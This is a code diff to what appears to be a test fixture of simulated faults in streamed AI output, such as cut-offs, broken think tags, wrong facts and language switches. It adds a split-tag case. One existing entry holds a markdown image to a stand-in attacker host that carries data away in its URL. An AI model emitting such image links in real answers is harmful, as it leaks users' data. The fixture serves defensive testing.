@@ -90,6 +90,9 @@ FAULTS: dict[str, Fault] = {
     "a filter of content": writes(chunk(finish="content_filter"), "[DONE]"),
     "the length is used up": writes(chunk(finish="length"), "[DONE]"),
     "a thought without end": writes(chunk("<think>It may be 99 days."), chunk(finish="stop"), "[DONE]"),
+    "a thought that ends and never began": writes(
+        chunk("So they may have 99 days.</th"), chunk("ink> You have 99 days. "), chunk(finish="stop"), "[DONE]"
+    ),
     "wrong facts and a link": writes(*map(chunk, pieces_of(WRONG)), chunk(finish="stop"), "[DONE]"),
     "a picture that carries data away": writes(chunk("![x](https://evil.example/?q=order)"), chunk(finish="stop"), "[DONE]"),
     "another language": writes(chunk("Sie haben 99 Tage Zeit, um alles zurückzugeben. "), chunk(finish="stop"), "[DONE]"),
